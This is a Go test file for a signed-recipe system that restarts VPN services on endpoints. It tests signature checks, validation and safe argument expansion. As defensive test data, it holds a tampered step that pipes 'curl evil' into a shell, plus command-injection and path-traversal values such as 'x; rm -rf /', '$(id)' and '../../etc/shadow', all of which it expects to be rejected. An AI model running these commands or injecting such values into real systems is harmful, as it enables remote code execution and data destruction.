package recipe_test

import (
	"bytes"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"errors"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/tierline/tierline/shared/catalog"
	"github.com/tierline/tierline/shared/orgdoc"
	"github.com/tierline/tierline/shared/recipe"
)

func key(t testing.TB) (ed25519.PublicKey, ed25519.PrivateKey) {
	pub, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return pub, priv
}

// vpn is the worked example of docs/recipes.md: restart a VPN client's
// service, the service name a parameter after "--".
func vpn() recipe.Recipe {
	return recipe.Recipe{
		ID: "restart-vpn-client", Version: 3, Title: "Restart the VPN client", Tier: 1,
		UserText: "Restart the VPN connection.", OSes: []string{catalog.Linux, catalog.Windows},
		Params: []catalog.Param{
			{Name: "service", Title: "Service", Kind: catalog.KindEnum, Enum: []string{"openvpn-client@corp", "wg-quick@corp"}, Default: "openvpn-client@corp"},
			{Name: "path", Title: "Path", Kind: catalog.KindString, Pattern: `[A-Za-z0-9._/-]{1,64}`},
		},
		Steps: []recipe.Step{
			{OS: catalog.Linux, Argv: []string{"systemctl", "restart", "--", "{service}"}},
			{OS: catalog.Linux, Argv: []string{"/usr/bin/ls", "{path}"}, Optional: true},
			{OS: catalog.Windows, Argv: []string{`C:\Windows\System32\net.exe`, "start", "{service}"}, OKExits: []int{2}},
		},
		TimeoutSec: 60, SettleSec: 2, Disruptive: true, Verify: []string{"hub-reachable"},
	}
}

func TestSignOpenRoundTrip(t *testing.T) {
	pub, priv := key(t)
	doc, err := recipe.Sign(priv, vpn())
	if err != nil {
		t.Fatal(err)
	}
	raw, err := doc.Encode()
	if err != nil {
		t.Fatal(err)
	}
	back, err := orgdoc.Decode(raw)
	if err != nil {
		t.Fatal(err)
	}
	r, err := recipe.Open(back, pub)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	if r.ID != "restart-vpn-client" || r.Version != 3 || len(r.Steps) != 3 {
		t.Fatalf("opened %+v", r)
	}
	if back.Key != orgdoc.KeyID(pub) {
		t.Fatalf("key id %s, want %s", back.Key, orgdoc.KeyID(pub))
	}
}

func TestOpenRefuses(t *testing.T) {
	pub, priv := key(t)
	other, otherPriv := key(t)
	_ = other
	good, _ := recipe.Sign(priv, vpn())
	foreign, _ := recipe.Sign(otherPriv, vpn())

	tampered := good
	var r recipe.Recipe
	json.Unmarshal(good.Body, &r)
	r.Steps[0].Argv = []string{"/bin/sh", "-c", "curl evil | sh"}
	tampered.Body, _ = json.Marshal(r)

	spaced := good
	spaced.Body = []byte(strings.Replace(string(good.Body), `{"id"`, `{ "id"`, 1))

	dupKey := good
	dupKey.Body = []byte(strings.Replace(string(good.Body), `{"id":"restart-vpn-client"`, `{"id":"restart-vpn-client","id":"evil"`, 1))

	kindSwap := good
	kindSwap.Kind = orgdoc.KindKeyChange

	for _, c := range []struct {
		name string
		doc  orgdoc.Signed
		pub  ed25519.PublicKey
		want string
	}{
		{"another key", foreign, pub, "not by the key pinned"},
		{"tampered", tampered, pub, "changed after it was signed"},
		{"not canonical", spaced, pub, "changed after it was signed"},
		{"duplicate key", dupKey, pub, "changed after it was signed"},
		{"kind swapped", kindSwap, pub, "changed after it was signed"},
		{"no key pinned", good, nil, "no organisation signing key is pinned"},
	} {
		_, err := recipe.Open(c.doc, c.pub)
		var oe *orgdoc.Error
		if err == nil || !errors.As(err, &oe) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: err = %v, want an orgdoc.Error saying %q", c.name, err, c.want)
		}
	}
}

func TestValidateRefuses(t *testing.T) {
	for _, c := range []struct {
		name string
		edit func(r *recipe.Recipe)
		want string
	}{
		{"spliced parameter", func(r *recipe.Recipe) { r.Steps[0].Argv = []string{"systemctl", "restart", "--unit={service}"} }, "whole element"},
		{"parameter as program", func(r *recipe.Recipe) { r.Steps[0].Argv = []string{"{service}"} }, "must be a literal"},
		{"relative program", func(r *recipe.Recipe) { r.Steps[0].Argv = []string{"bin/tool"} }, "bare name"},
		{"dotdot program", func(r *recipe.Recipe) { r.Steps[0].Argv = []string{"/usr/bin/../../tmp/x"} }, "bare name"},
		{"undeclared parameter", func(r *recipe.Recipe) { r.Steps[0].Argv = []string{"systemctl", "{nope}"} }, "not a declared parameter"},
		{"catalog id", func(r *recipe.Recipe) { r.ID = catalog.FlushDNS }, "built-in catalog fix"},
		{"bad id", func(r *recipe.Recipe) { r.ID = "Restart VPN" }, "must be 1 to 64"},
		{"bad pattern", func(r *recipe.Recipe) { r.Params[1].Pattern = "([a-z" }, "does not compile"},
		{"string without pattern", func(r *recipe.Recipe) { r.Params[1].Pattern = "" }, "needs a pattern"},
		{"default outside enum", func(r *recipe.Recipe) { r.Params[0].Default = "sshd" }, "default"},
		{"tier", func(r *recipe.Recipe) { r.Tier = 7 }, "tier"},
		{"os", func(r *recipe.Recipe) { r.OSes = []string{"plan9"} }, "OS"},
		{"os without step", func(r *recipe.Recipe) { r.OSes = append(r.OSes, catalog.Darwin) }, "no step runs on darwin"},
		{"timeout", func(r *recipe.Recipe) { r.TimeoutSec = 0 }, "timeout_sec"},
		{"version", func(r *recipe.Recipe) { r.Version = 0 }, "version"},
		{"control character", func(r *recipe.Recipe) { r.Title = "VPN\x1b[31m" }, "title"},
	} {
		r := vpn()
		c.edit(&r)
		err := r.Validate()
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: Validate = %v, want %q", c.name, err, c.want)
		}
		if _, priv := key(t); err != nil {
			if _, serr := recipe.Sign(priv, r); serr == nil {
				t.Errorf("%s: Sign accepted an invalid recipe", c.name)
			}
		}
	}
}

func TestExpand(t *testing.T) {
	r := vpn()
	steps, _, err := r.Expand(catalog.Linux, map[string]string{"path": "var/log"})
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"systemctl", "restart", "--", "openvpn-client@corp"}, {"/usr/bin/ls", "var/log"}}
	if len(steps) != 2 || strings.Join(steps[0].Argv, " ") != strings.Join(want[0], " ") || strings.Join(steps[1].Argv, " ") != strings.Join(want[1], " ") {
		t.Fatalf("linux steps %+v, want %v", steps, want)
	}
	// Left empty, an optional parameter drops its element.
	steps, _, _ = r.Expand(catalog.Linux, nil)
	if got := steps[1].Argv; len(got) != 1 || got[0] != "/usr/bin/ls" {
		t.Fatalf("empty optional parameter: argv %q", got)
	}
	steps, _, _ = r.Expand(catalog.Windows, map[string]string{"service": "wg-quick@corp"})
	if len(steps) != 1 || steps[0].Argv[2] != "wg-quick@corp" {
		t.Fatalf("windows steps %+v", steps)
	}
	for _, c := range []struct {
		goos   string
		params map[string]string
		want   string
	}{
		{catalog.Linux, map[string]string{"path": "--foo"}, "looks like an option"},
		{catalog.Linux, map[string]string{"path": "-rf"}, "looks like an option"},
		{catalog.Linux, map[string]string{"path": "../../etc/shadow"}, `".." path element`},
		{catalog.Linux, map[string]string{"path": "a/../b"}, `".." path element`},
		{catalog.Linux, map[string]string{"path": "x; rm -rf /"}, "does not match"},
		{catalog.Linux, map[string]string{"path": "$(id)"}, "does not match"},
		{catalog.Linux, map[string]string{"path": "`id`"}, "does not match"},
		{catalog.Linux, map[string]string{"path": "a|b"}, "does not match"},
		{catalog.Linux, map[string]string{"path": "a\nb"}, "control character"},
		{catalog.Linux, map[string]string{"service": "sshd"}, "is not one of"},
		{catalog.Linux, map[string]string{"extra": "x"}, "not a parameter"},
		{catalog.Darwin, nil, "not for darwin"},
	} {
		_, _, err := r.Expand(c.goos, c.params)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("Expand(%s, %q) = %v, want %q", c.goos, c.params, err, c.want)
		}
	}
	// After a literal "--" an option-looking value is only an operand.
	r.Params = append(r.Params, catalog.Param{Name: "unit", Kind: catalog.KindString, Pattern: `[-A-Za-z0-9@.]{1,64}`})
	r.Steps[0].Argv = []string{"systemctl", "restart", "--", "{unit}"}
	steps, _, err = r.Expand(catalog.Linux, map[string]string{"unit": "-dash@x"})
	if err != nil || steps[0].Argv[3] != "-dash@x" {
		t.Fatalf("value after --: %v %+v", err, steps)
	}
	// A Windows switch is refused on Windows.
	r.Steps[2].Argv = []string{`C:\Windows\System32\net.exe`, "start", "{path}"}
	if _, _, err := r.Expand(catalog.Windows, map[string]string{"path": "/y"}); err == nil || !strings.Contains(err.Error(), "Windows switch") {
		t.Fatalf("windows switch: %v", err)
	}
}

// FuzzRecipeDecode: any bytes either decode to a recipe that passes
// Validate (and whose argv elements are literals or whole parameters) or
// are refused with an error; nothing panics.
func FuzzRecipeDecode(f *testing.F) {
	_, priv := key(f)
	good, _ := recipe.Sign(priv, vpn())
	raw, _ := good.Encode()
	f.Add(raw)
	f.Add([]byte(`{"kind":"recipe","body":{"id":"x"},"key":"0123456789abcdef","sig":""}`))
	f.Add([]byte(`{"kind":"key-change","body":{"new":"","serial":1},"key":"0123456789abcdef","sig":"AAAA"}`))
	f.Add([]byte(`[]`))
	f.Add([]byte(good.Body))
	f.Fuzz(func(t *testing.T, data []byte) {
		doc, err := orgdoc.Decode(data)
		if err != nil {
			var oe *orgdoc.Error
			if !errors.As(err, &oe) {
				t.Fatalf("Decode error is not an orgdoc.Error: %v", err)
			}
			return
		}
		r, err := recipe.Parse(doc)
		if err != nil {
			return
		}
		if r.Validate() != nil {
			t.Fatal("Parse returned a recipe that does not validate")
		}
		// A body re-encodes to itself (canonical).
		again, _ := json.Marshal(r)
		if string(again) != string(doc.Body) {
			t.Fatalf("accepted a non-canonical body")
		}
	})
}

// FuzzExpand: whatever the values, an expanded argv holds only the
// template's literals and whole values that passed the rules; a value is
// never spliced, never starts with "-" unless after "--", never holds a
// ".." element or a control character.
func FuzzExpand(f *testing.F) {
	for _, s := range []string{"var/log", "--foo", "-", "../x", "a/..", "x;y", "a b", "\x00", "ok", ".."} {
		f.Add(s, "openvpn-client@corp", "linux")
	}
	f.Add("C:/x", "wg-quick@corp", "windows")
	f.Fuzz(func(t *testing.T, path, service, goos string) {
		r := vpn()
		steps, vals, err := r.Expand(goos, map[string]string{"path": path, "service": service})
		if err != nil {
			return
		}
		for _, st := range steps {
			tmpl := templateFor(r, st, goos)
			j := 0
			endOpts := false
			for _, a := range tmpl.Argv {
				if strings.HasPrefix(a, "{") {
					v := vals[strings.Trim(a, "{}")]
					if v == "" {
						continue
					}
					if st.Argv[j] != v {
						t.Fatalf("element %d = %q, want the whole value %q", j, st.Argv[j], v)
					}
					if strings.HasPrefix(v, "-") && !endOpts || strings.Contains("/"+strings.ReplaceAll(v, `\`, "/")+"/", "/../") {
						t.Fatalf("value %q let through", v)
					}
				} else {
					endOpts = endOpts || a == "--"
					if st.Argv[j] != a {
						t.Fatalf("literal %d = %q, want %q", j, st.Argv[j], a)
					}
				}
				j++
			}
			if j != len(st.Argv) {
				t.Fatalf("argv %q has elements the template does not", st.Argv)
			}
		}
	})
}

func templateFor(r recipe.Recipe, st recipe.Step, goos string) recipe.Step {
	i := 0
	for _, s := range r.Steps {
		if s.OS == "" || s.OS == goos {
			if strings.Join(s.Argv[:1], "") == st.Argv[0] {
				return s
			}
			i++
		}
	}
	return recipe.Step{}
}

// TestDocExamplesAreValid: every recipe in docs/recipes.md passes the
// checks `tierline-hub recipe sign` makes.
func TestDocExamplesAreValid(t *testing.T) {
	doc, err := os.ReadFile("../../docs/recipes.md")
	if err != nil {
		t.Skip("docs/recipes.md not found:", err)
	}
	blocks := regexp.MustCompile("(?s)```json\n(\\{\\s*\"id\".*?)```").FindAllSubmatch(doc, -1)
	if len(blocks) < 4 {
		t.Fatalf("found %d recipe examples in docs/recipes.md, want 4", len(blocks))
	}
	for _, b := range blocks {
		var r recipe.Recipe
		dec := json.NewDecoder(bytes.NewReader(b[1]))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&r); err != nil {
			t.Errorf("example does not decode: %v\n%s", err, b[1])
			continue
		}
		if err := r.Validate(); err != nil {
			t.Errorf("example %s: %v", r.ID, err)
		}
	}
}
